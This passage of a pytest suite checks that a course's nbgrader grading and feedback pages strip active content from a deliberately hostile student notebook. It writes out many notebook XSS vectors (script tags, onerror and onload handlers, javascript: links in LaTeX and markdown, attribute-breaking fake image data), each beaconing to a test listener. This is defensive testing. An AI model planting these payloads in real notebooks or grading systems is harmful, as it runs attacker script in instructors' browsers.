        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") or meta.get("solution") or meta.get("task"):
            meta["score"], meta["comment"] = meta.get("points", 0), None
        return cell, resources


def _formgrade_exporter(config=None):
    """nbgrader formgrader's exporter: an ``HTMLExporter`` with the ``formgrade`` template (handlers.py)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    cfg = Config(config or {})
    cfg.HTMLExporter.template_name = "formgrade"
    cfg.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    return HTMLExporter(config=cfg)


def _formgrade_resources(nb_path: Path) -> dict:
    return {"assignment_id": LAB.name, "notebook_id": LAB.name, "submission_id": "s1", "index": 0, "total": 1,
            "base_url": "", "student": STUDENT, "last_name": "", "first_name": "",
            "notebook_path": str(nb_path), "metadata": {"path": str(nb_path.parent)}}


@pytest.mark.slow
def test_the_fast_pages_fire_nothing_and_still_read(browser, listener, shots, tmp_path):
    """The hostile notebook, its outputs as a kernel would have produced them, in three pages."""
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.preprocessors import GetGrades

    start = time.monotonic()
    raw = hostile_notebook(listener.base)
    folder = tmp_path / "pages"
    folder.mkdir()

    # 1. The autograde step (InertOutputs as the course lists it, last), then formgrader's page for the saved
    #    notebook, with nbconvert alone: the notebook is inert by itself.
    autograded = copy.deepcopy(raw)
    resources = {"nbgrader": {"assignment": LAB.name, "student": STUDENT, "notebook": LAB.name}}
    inert.InertOutputs().preprocess(autograded, resources)
    nbformat.validate(autograded)
    saved = folder / f"{LAB.name}.ipynb"
    nbformat.write(autograded, saved)
    page, _ = _formgrade_exporter().from_filename(str(saved), resources=_formgrade_resources(saved))
    (folder / "formgrade_autograded.html").write_text(page)

    # 2. Feedback from the raw notebook (as if autograded before this change), by nbgrader's GenerateFeedback
    #    exporter and preprocessors as the course configures them (GetGrades needs a gradebook: a stand-in
    #    gives full points in its place).
    with mock.patch.dict(os.environ):
        cfg = course_config(str(ROOT))
    converter = GenerateFeedback(coursedir=CourseDirectory(config=cfg), config=cfg)
    exporter = converter.exporter_class(parent=converter, config=converter.config)
    for pp in converter.preprocessors:
        exporter.register_preprocessor(_GradesGiven if pp is GetGrades else pp)
    feedback, _ = exporter.from_notebook_node(copy.deepcopy(raw), resources={
        "nbgrader": {"notebook": LAB.name, "assignment": LAB.name, "student": STUDENT, "score": 13.0,
                     "max_score": 13.0, "late_penalty": 0}, "metadata": {"path": str(folder)}})
    (folder / "feedback_raw.html").write_text(feedback)

    # 3. Formgrader's exporter with the course configuration, on the raw notebook (one nbformat accepts:
    #    nbconvert's default preprocessors validate before InertOutputs runs, and refuse the crafted cells).
    rawfile = folder / "raw.ipynb"
    nbformat.write(hostile_notebook(listener.base, crafted=False), rawfile)
    page, _ = _formgrade_exporter(cfg).from_filename(str(rawfile), resources=_formgrade_resources(rawfile))
    (folder / "formgrade_raw_with_course_config.html").write_text(page)
    built = time.monotonic() - start

    report = {}
    for name, csp, title in (("formgrade_autograded.html", False, LAB.name),
                             ("feedback_raw.html", True, LAB.name),
                             ("formgrade_raw_with_course_config.html", False, LAB.name)):
        problems = _check_page(browser, folder / name, listener, shots, csp=csp, title=title)
        if problems:
            report[name] = problems
    print(f"\nthree pages built in {built:.1f} s, checked in {time.monotonic() - start - built:.1f} s")
    assert not report, json.dumps(report, indent=1) + f"\n(screenshots in {shots})"


@pytest.mark.slow
def test_the_browser_check_sees_a_payload_that_runs(browser, listener, shots, tmp_path):
    """The check itself works: the same hostile notebook through stock nbconvert (no InertOutputs, no CSP)
    fires payloads, and they are seen."""
    raw = hostile_notebook(listener.base, crafted=False)
    saved = tmp_path / "stock" / f"{LAB.name}.ipynb"
    saved.parent.mkdir()
    nbformat.write(raw, saved)
    page, _ = _formgrade_exporter().from_filename(str(saved), resources=_formgrade_resources(saved))
    (saved.parent / "stock.html").write_text(page)
    problems = _check_page(browser, saved.parent / "stock.html", listener, shots, csp=False, title=LAB.name)
    text = "\n".join(problems)
    for fired in ("/md-img-onerror", "/md-meta-refresh", "/out-html-script", "/in-test-cell"):
        assert fired in text, text


# ------------------------------------------------------------------------------------------------ real nbgrader

def hostile_code_cells(base: str) -> list[str]:
    """Code cells whose execution, in the autograde kernel, produces the output vectors."""
    p = lambda name: js(base, name)  # noqa: E731
    img = lambda name: f'<img src=x onerror="{p(name)}">'  # noqa: E731
    href = lambda name: "$\\href{javascript:" + p(name) + "}{x}$"  # noqa: E731
    fake_png = 'x"><img src=x onerror="' + p("k-fake-png") + '">'
    return [
        "from IPython.display import HTML, Image, Javascript, Latex, display\nimport base64",
        f"display(HTML({'<script>' + p('k-html-script') + '</script>' + img('k-html-img')!r}))",
        f"display(Javascript({p('k-javascript')!r}))",
        "class Shiny:\n"
        f"    def _repr_html_(self):\n        return {'<svg onload=' + repr(p('k-repr-html')) + '></svg>'!r}\n"
        f"    def _repr_svg_(self):\n        return {svg(base, 'k-repr-svg')!r}\n"
        f"    def _repr_markdown_(self):\n        return {'[md](javascript:' + p('k-repr-markdown') + ')'!r}\n"
        f"    def _repr_latex_(self):\n        return {href('k-repr-latex')!r}\n"
        f"    def _repr_javascript_(self):\n        return {p('k-repr-javascript')!r}\n\n\n"
        "display(Shiny())",
        f"display({{'application/javascript': {p('k-app-js')!r}, 'text/plain': 'js'}}, raw=True)",
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'abc', 'version_major': 2, "
        "'version_minor': 0}, 'text/plain': 'IntSlider(value=3)'}, raw=True)",
        f"display({{'text/html': {'<script>' + p('k-isolated') + '</script>'!r}}}, raw=True, "
        "metadata={'text/html': {'isolated': True}})",
        f"display({{'image/png': {fake_png!r}, 'text/plain': 'not a png'}}, raw=True)",
        f"display({{'application/x-evil+html': {'<script>' + p('k-unknown') + '</script>'!r}}}, raw=True)",
        f"print({img('k-print')!r})",
        f"display(Latex({href('k-latex')!r}))",
        f"display(Image(data=base64.b64decode({PNG_B64!r})), metadata={{'width': {'1 ' + img('k-png-width')!r}}})",
        f"HTML({img('k-execute-result')!r})",
        f"raise ValueError({img('k-error')!r})",
    ]


def _nbgrader(root: Path, *args: str, timeout: float = 900) -> subprocess.CompletedProcess:
    env = tool_env(BYTES2LOGITS_GRADING_EXAMPLES="20")
    for key in ("BYTES2LOGITS_COURSE_ROOT", "BYTES2LOGITS_ROOT", "BYTES2LOGITS_HIDDEN_TESTS"):
        env.pop(key, None)
    env["BYTES2LOGITS_HIDDEN_TESTS"] = str(root / "tests" / "hidden")
    return subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=root, env=env, capture_output=True,
                          text=True, timeout=timeout)


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener):
    """A course with lab 01, the hostile submission of ``mallory``, graded by the nbgrader commands themselves."""
    root = course_copy(tmp_path_factory.mktemp("course"), LAB)
    times = {}
    nb = hostile_notebook(listener.base, crafted=False)
    at = next(i for i, c in enumerate(nb.cells) if "# the learner's experiments" in c.get("source", ""))
    nb.cells[at + 1:at + 1] = [nbformat.v4.new_code_cell(src) for src in hostile_code_cells(listener.base)]
    folder = root / "submitted" / STUDENT / LAB.name
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{LAB.name}.ipynb")
    for step, args in (("generate_assignment", ("generate_assignment", LAB.name, "--force")),
                       ("autograde", ("autograde", LAB.name, "--force", "--Execute.timeout=30")),
                       ("generate_feedback", ("generate_feedback", LAB.name, "--force"))):
        start = time.monotonic()
        result = _nbgrader(root, *args)
        times[step] = round(time.monotonic() - start, 1)
        assert result.returncode == 0, f"{step}: {result.stdout[-3000:]}\n{result.stderr[-5000:]}"
    print(f"\nnbgrader steps (s): {times}")
    return root


@pytest.mark.slow
def test_real_nbgrader_grades_the_hostile_submission_in_full(graded):
    """Sanitising takes nothing from the grade: the honest answers earn every point."""
    from nbgrader.api import Gradebook

    with Gradebook("sqlite:///" + str(graded / "gradebook.db")) as gb:
        assert gb.find_submission(LAB.name, STUDENT).score == pytest.approx(LAB.total_points)


@pytest.mark.slow
def test_the_autograded_notebook_holds_nothing_active(graded, listener):
    nb = nbformat.read(graded / "autograded" / STUDENT / LAB.name / f"{LAB.name}.ipynb", as_version=4)
    mimes = set()
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            mimes |= set(out.get("data", {}))
            for mime in ("text/html", "text/markdown"):
                if mime in out.get("data", {}):
                    assert not html_problems(out["data"][mime]), out["data"][mime]
        if cell.cell_type == "markdown" and cell.source.startswith("<div"):
            assert not html_problems(cell.source)
    assert mimes <= {"text/plain", "image/png", "text/html", "text/markdown"}, mimes
    assert "image/png" in mimes
    assert set(nb.metadata) <= {"kernelspec", "language_info"}
    text = json.dumps(nb)
    assert "hidden checks passed" in text
    # The kernel did produce the hostile outputs (so they were there to remove): its text/plain stand-ins say so.
    assert "application/javascript" in text and "IntSlider(value=3)" in text


@pytest.mark.slow
def test_the_real_pages_fire_nothing_and_still_read(graded, browser, listener, shots):
    """``nbgrader generate_feedback``'s page, and formgrader's rendering of the autograded notebook."""
    feedback = graded / "feedback" / STUDENT / LAB.name / f"{LAB.name}.html"
    saved = graded / "autograded" / STUDENT / LAB.name / f"{LAB.name}.ipynb"
    page, _ = _formgrade_exporter().from_filename(str(saved), resources=_formgrade_resources(saved))
    formgrade = saved.parent / "formgrade.html"
    formgrade.write_text(page)
    report = {}
    for path, csp in ((feedback, True), (formgrade, False)):
        problems = _check_page(browser, path, listener, shots, csp=csp, title=LAB.name)
        if problems:
            report[str(path.relative_to(graded))] = problems
    assert not report, json.dumps(report, indent=1) + f"\n(screenshots in {shots})"

